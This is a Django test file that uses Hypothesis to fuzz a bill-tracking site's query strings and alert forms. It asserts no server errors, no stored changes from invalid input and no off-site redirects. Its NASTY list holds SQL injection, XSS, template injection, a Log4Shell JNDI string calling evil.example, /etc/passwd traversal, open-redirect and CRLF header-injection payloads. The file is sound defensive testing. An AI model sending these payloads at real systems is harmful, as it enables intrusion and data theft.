"""Hostile input (hypothesis): random and malicious values in every public URL's query string and
in every public form (subscribe, confirm, unsubscribe, language switch). Never a 500; an invalid
request never changes what is stored; no redirect leaves the site."""

from __future__ import annotations

from urllib.parse import quote, urlparse

import pytest
from django.core.cache import cache
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bills.backup import record_counts
from events.models import Alert, Delivery, Subscription
from tests.ops.public_urls import public_urls
from tests.ops.records import SLUG, build_private_data, build_record
from web.filters import BillFilter

pytestmark = pytest.mark.django_db

HYPOTHESIS = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "%00",
    "' OR 1=1 --",
    '"; DROP TABLE bills_bill; --',
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\u202egnp.exe",
    "😀" * 50,
    "x" * 5000,
    "-1",
    "0",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "-inf",
    "2025-02-30",
    "0000-00-00",
    "9999-12-31",
    "null",
    "[]",
    "{}",
    "KZ",
    SLUG,
    "introduced",
    "//evil.example/",
    "https://evil.example/",
    "javascript:alert(1)",
    "\r\nSet-Cookie: x=1",
]
hostile = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=200),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.dates().map(str),
)
# The bill list's filters (from the filterset itself, so a new one is fuzzed too), then the
# other pages' query keys.
QUERY_KEYS = [
    *BillFilter.base_filters,
    "page",
    "bill",
    "language",
    "format",
]
query_keys = st.one_of(st.sampled_from(QUERY_KEYS), st.text(min_size=1, max_size=20))


def _stored() -> tuple:
    """Everything a request could change, as counts and statuses."""
    return (
        tuple(sorted(record_counts().items())),
        tuple(Subscription.objects.order_by("pk").values_list("pk", "status", "language")),
        Alert.objects.count(),
        Delivery.objects.count(),
    )


@pytest.fixture
def record(db):
    bill = build_record().bill
    build_private_data(bill)
    cache.clear()
    return bill


@pytest.fixture
def urls(record):
    return public_urls(record, ("en", "ru"))


@HYPOTHESIS
@given(data=st.data())
def test_query_strings_never_cause_a_500_or_a_change(client, record, urls, data):
    url = data.draw(st.sampled_from(urls), label="url")
    params = data.draw(st.dictionaries(query_keys, hostile, max_size=5), label="params")
    before = _stored()
    response = client.get(url, params)
    assert response.status_code < 500, (url, params)
    assert _stored() == before


@HYPOTHESIS
@given(
    email=st.one_of(st.emails().map(str), hostile),
    bill=st.one_of(st.just(SLUG), hostile),
    jurisdiction=st.one_of(st.just(""), st.just("KZ"), hostile),
    language=st.one_of(st.sampled_from(["en", "ru", "kk"]), hostile),
)
def test_subscribe_form_rejects_hostile_input_without_storing_it(
    client, record, email, bill, jurisdiction, language
):
    before = _stored()
    response = client.post(
        "/alerts/subscribe/",
        {"email": email, "bill": bill, "jurisdiction": jurisdiction, "language": language},
    )
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:
        assert _stored() == before, "an invalid subscribe request changed what is stored"
    else:
        assert response["Location"].endswith("/alerts/subscribe/sent/")
        # A valid request stores at most one pending subscription, never a confirmed one.
        after = Subscription.objects.exclude(pk__in=[row[0] for row in before[1]]).values_list(
            "status", flat=True
        )
        assert list(after) in ([], ["pending"])


tokens = st.one_of(st.sampled_from(NASTY), st.text(min_size=1, max_size=300)).filter(
    lambda token: token.strip(" ./") != ""
)


@HYPOTHESIS
@given(token=tokens, one_click=st.booleans(), language=st.sampled_from(["", "/ru", "/kk"]))
def test_confirm_and_unsubscribe_reject_forged_tokens(client, record, token, one_click, language):
    path = quote(token, safe="")
    before = _stored()
    for url in (f"{language}/alerts/confirm/{path}/", f"{language}/alerts/unsubscribe/{path}/"):
        assert client.get(url).status_code in (400, 404), url
        data = {"List-Unsubscribe": "One-Click"} if one_click else {}
        assert client.post(url, data).status_code in (400, 403, 404), url
    assert _stored() == before


@HYPOTHESIS
@given(language=hostile, next_url=st.one_of(st.just(None), hostile))
def test_language_switch_never_breaks_or_leaves_the_site(client, record, language, next_url):
    before = _stored()
    data = {"language": language}
    if next_url is not None:
        data["next"] = next_url
    response = client.post("/i18n/setlang/", data)
    assert response.status_code in (204, 302, 400), response.status_code
    if response.status_code == 302:
        target = urlparse(response["Location"])
        assert target.netloc in ("", "testserver"), response["Location"]
        assert target.scheme in ("", "http", "https")
    assert _stored() == before


@pytest.mark.parametrize("value", ["\x00", "a\x00b", "x" * 5000, "' OR 1=1 --"])
def test_every_query_key_on_every_public_url_with_a_nasty_value(client, urls, value):
    """Deterministic companion to the random test: each known key, each URL, each nasty value
    (NUL bytes reach PostgreSQL as a 500 if a view queries with the raw value)."""
    before = _stored()
    for url in urls:
        for key in QUERY_KEYS:
            response = client.get(url, {key: value})
            assert response.status_code < 500, (url, key, value)
    assert _stored() == before
